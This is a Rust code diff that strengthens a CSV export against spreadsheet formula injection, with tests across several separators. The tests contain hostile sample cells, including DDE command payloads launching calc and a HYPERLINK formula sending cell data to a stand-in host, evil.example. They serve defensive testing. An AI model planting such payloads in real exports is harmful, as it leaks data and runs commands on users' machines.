@@ -224,13 +224,42 @@ async fn site_names(app: &App, tenant: TenantId, jobs: &[Job]) -> Result<BTreeMa
     Ok(app.store.batch(&keys).await?.all::<Site>()?.into_iter().map(|s| (s.id, s.name)).collect())
 }
 
-/// A cell a spreadsheet could read as a formula gets a leading `'` (CSV injection).
+/// What makes a spreadsheet read the rest of a field as a formula (OWASP, CSV injection).
+const FORMULA_STARTS: [char; 4] = ['=', '+', '-', '@'];
+/// Where a spreadsheet may start a new field: at any separator it might split on (`,`,
+/// or `;` in a Dutch Excel, tab, `|`), a quote (a reader splitting on `;` loses track of
+/// quoting a `,` file uses) or a line break.
+const FIELD_BREAKS: [char; 7] = [',', ';', '\t', '|', '"', '\r', '\n'];
+
+/// A cell no spreadsheet reads as a formula, whatever separator it splits on: wherever a
+/// field could start — the cell's start, or after a separator, quote or line break, and
+/// spaces — a formula character gets a `'` before it, as does a leading tab or carriage
+/// return. Other text is left as it is; so is a plain number (a negative cost).
 fn cell(value: &str) -> String {
-    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        format!("'{value}")
-    } else {
-        value.to_owned()
+    if is_plain_number(value) {
+        return value.to_owned();
     }
+    let mut out = String::with_capacity(value.len() + 2);
+    let mut field_start = true;
+    for c in value.chars() {
+        let leading_blank = out.is_empty() && matches!(c, '\t' | '\r');
+        if (field_start && FORMULA_STARTS.contains(&c)) || leading_blank {
+            out.push('\'');
+        }
+        out.push(c);
+        field_start = FIELD_BREAKS.contains(&c) || (field_start && c == ' ');
+    }
+    out
+}
+
+/// `-12.50`, `7`: a number a spreadsheet reads as one, never as a formula.
+fn is_plain_number(value: &str) -> bool {
+    let digits = value.strip_prefix('-').unwrap_or(value);
+    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
+    !whole.is_empty()
+        && !fraction.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && fraction.bytes().all(|b| b.is_ascii_digit())
 }
 
 /// Minor units as a decimal amount, by the currency's exponent (ISO 4217).
@@ -410,6 +439,67 @@ mod tests {
         assert_eq!(&rows[0][8], "2026-03-01T08:00:00Z");
         assert_eq!(&rows[0][13], "1234.56");
         assert_eq!(&rows[1][7], "'=HYPERLINK(\"x\")", "formulas are defused");
+    }
+
+    /// Every field a spreadsheet could make of `csv`, splitting on `delimiter`, with or
+    /// without honouring quotes, as it would start (leading spaces and quotes dropped).
+    fn fields_read_with(csv: &str, delimiter: u8, quoting: bool) -> Vec<String> {
+        let mut r = csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .quoting(quoting)
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(csv.as_bytes());
+        r.records()
+            .flat_map(|r| r.unwrap().iter().map(|f| f.trim_start_matches([' ', '"']).to_owned()).collect::<Vec<_>>())
+            .collect()
+    }
+
+    #[test]
+    fn no_cell_reads_as_a_formula_under_any_separator() {
+        let attacks = [
+            "Leak;=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example/?\"&A1)",
+            "Boiler\t+1+1",
+            "pump|@SUM(1)",
+            "note, -2+3+cmd|' /C calc'!A0",
+            "quoted \"=1+1\" inside",
+            "line\n=1+1",
+            "line\r\n @SUM(A1)",
+            "@x",
+            "-1+1",
+            "-1",
+            "a;  =1",
+        ];
+        let jobs: Vec<Job> = attacks.iter().enumerate().map(|(i, a)| job(&format!("WO-{i}"), a)).collect();
+        let sites = BTreeMap::from([(jobs[0].site_id, Name::parse("-Gebouw;=Noord").unwrap())]);
+        let text = csv_of(&jobs, &sites).unwrap();
+        for delimiter in [b',', b';', b'\t', b'|'] {
+            for quoting in [true, false] {
+                for field in fields_read_with(&text, delimiter, quoting) {
+                    assert!(
+                        !field.starts_with(FORMULA_STARTS) || is_plain_number(&field),
+                        "{:?}-separated (quotes {quoting}): {field:?}",
+                        delimiter as char
+                    );
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn defused_text_stays_readable_and_plain_text_is_untouched() {
+        assert_eq!(cell("Leak;=cmd|' /C calc'!A0"), "Leak;'=cmd|' /C calc'!A0");
+        assert_eq!(cell("=1+1"), "'=1+1");
+        assert_eq!(cell("a; -b"), "a; '-b");
+        assert_eq!(cell("\tx"), "'\tx");
+        for plain in
+            ["Boiler, \"urgent\"\nsecond line – café", "Room 3 - kitchen", "a@b.example", "WO-7", "-12.50", "42"]
+        {
+            assert_eq!(cell(plain), plain);
+        }
+        assert_eq!(cell("-12.50x"), "'-12.50x");
+        assert_eq!(cell("-"), "'-");
     }
 
     #[test]
